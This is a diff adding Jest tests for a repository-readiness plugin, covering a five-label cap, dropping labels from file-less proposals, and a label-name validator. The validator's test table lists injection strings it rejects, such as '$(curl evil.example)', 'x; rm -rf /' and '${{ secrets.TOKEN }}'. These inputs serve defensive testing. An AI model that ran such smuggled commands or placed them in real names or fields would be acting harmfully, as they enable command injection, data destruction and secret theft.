@@ -7,10 +7,14 @@ import { detectRepositoryFiles } from '@innersource-for-backstage/plugin-innerso
 import type { ProjectDetails } from './contents';
 import type { ReadinessForge } from './forge';
 import {
+  capLabels,
+  MAX_LABELS,
   pathsToLookUp,
   proposeReadinessChanges,
   RepositoryState,
+  withoutLabelsAlone,
 } from './proposeReadinessChanges';
+import { isPlainLabelName } from './text';
 
 const project: ProjectDetails = {
   entityRef: 'component:default/payment-gateway',
@@ -345,5 +349,160 @@ describe('proposeReadinessChanges', () => {
       '.gitlab/issue_templates',
       'innersource.json',
     ]);
+  });
+});
+
+describe('capLabels', () => {
+  it.each<[string, { goodFirstIssue: string[]; helpWanted: string[] }, object]>(
+    [
+      [
+        'five or fewer: all kept',
+        { goodFirstIssue: ['good first issue'], helpWanted: ['a', 'b'] },
+        {
+          labels: {
+            goodFirstIssue: ['good first issue'],
+            helpWanted: ['a', 'b'],
+          },
+          leftOut: [],
+        },
+      ],
+      [
+        'good-first-issue labels first, then help-wanted, in order',
+        {
+          goodFirstIssue: ['g1', 'g2'],
+          helpWanted: ['h1', 'h2', 'h3', 'h4', 'h5'],
+        },
+        {
+          labels: {
+            goodFirstIssue: ['g1', 'g2'],
+            helpWanted: ['h1', 'h2', 'h3'],
+          },
+          leftOut: ['h4', 'h5'],
+        },
+      ],
+      [
+        'a name in another case counts once',
+        {
+          goodFirstIssue: ['Help'],
+          helpWanted: ['help', 'HELP', 'a', 'b', 'c', 'd', 'e'],
+        },
+        {
+          labels: {
+            goodFirstIssue: ['Help'],
+            helpWanted: ['a', 'b', 'c', 'd'],
+          },
+          leftOut: ['e'],
+        },
+      ],
+    ],
+  )('%s', (_case, labels, expected) => {
+    expect(capLabels(labels)).toEqual(expected);
+  });
+
+  it('proposes at most MAX_LABELS labels and says which are left out', () => {
+    const proposal = proposeReadinessChanges({
+      project: {
+        ...project,
+        labels: {
+          goodFirstIssue: ['good first issue'],
+          helpWanted: ['l1', 'l2', 'l3', 'l4', 'l5', 'l6'],
+        },
+      },
+      readiness: checks([]),
+      codeOwner: { handle: '@acme/payments' },
+      repository: emptyRepository,
+    });
+    expect(MAX_LABELS).toBe(5);
+    expect(proposal.labels.map(l => l.name)).toEqual([
+      'good first issue',
+      'l1',
+      'l2',
+      'l3',
+      'l4',
+    ]);
+    expect(proposal.skipped.map(s => s.message)).toEqual([
+      'the label "l5" is left out: one pull request creates at most 5 labels',
+      'the label "l6" is left out: one pull request creates at most 5 labels',
+    ]);
+    // the contribution guide names only the labels it can create
+    const contributing = proposeReadinessChanges({
+      project: {
+        ...project,
+        labels: {
+          goodFirstIssue: ['good first issue'],
+          helpWanted: ['l1', 'l2', 'l3', 'l4', 'l5', 'l6'],
+        },
+      },
+      readiness: checks(['contributing']),
+      codeOwner: { handle: '@acme/payments' },
+      repository: emptyRepository,
+    }).files.find(f => f.path === 'CONTRIBUTING.md')!.content;
+    expect(contributing).toContain('l4');
+    expect(contributing).not.toContain('l5');
+  });
+
+  it.each<[string, boolean]>([
+    ['help wanted', true],
+    ['status: help-wanted', true],
+    ['good first issue', true],
+    ['Hilfe willkommen', true],
+    ['area/ui', true],
+    ['c++', true],
+    ['$(curl evil.example)', false],
+    ['`whoami`', false],
+    ['a"b', false],
+    ["it's", false],
+    ['x; rm -rf /', false],
+    ['${{ secrets.TOKEN }}', false],
+    [' leading space', false],
+    ['-dash first', false],
+  ])('a label named %j is plain: %s', (name, plain) => {
+    expect(isPlainLabelName(name)).toBe(plain);
+  });
+});
+
+describe('withoutLabelsAlone', () => {
+  const label = {
+    name: 'good first issue',
+    color: '7057ff',
+    description: 'Small enough for a first contribution',
+  };
+
+  it('keeps the labels of a proposal with files', () => {
+    const proposal = {
+      files: [
+        {
+          path: 'innersource.json',
+          content: '{}',
+          reason: 'innersourceJson' as const,
+        },
+      ],
+      labels: [label],
+      skipped: [],
+      manual: [],
+    };
+    expect(withoutLabelsAlone(proposal)).toBe(proposal);
+  });
+
+  it.each<[ReadinessForge, string]>([
+    ['github', 'pull request'],
+    ['gitlab', 'merge request'],
+  ])('drops the labels of a proposal with no file, on %s', (forge, name) => {
+    expect(
+      withoutLabelsAlone(
+        { files: [], labels: [label], skipped: [], manual: [] },
+        forge,
+      ),
+    ).toEqual({
+      files: [],
+      labels: [],
+      skipped: [
+        {
+          reason: 'label',
+          message: `the label "good first issue" is missing, and labels are created only with a ${name}, which has no file to add here: create it in the repository`,
+        },
+      ],
+      manual: [],
+    });
   });
 });
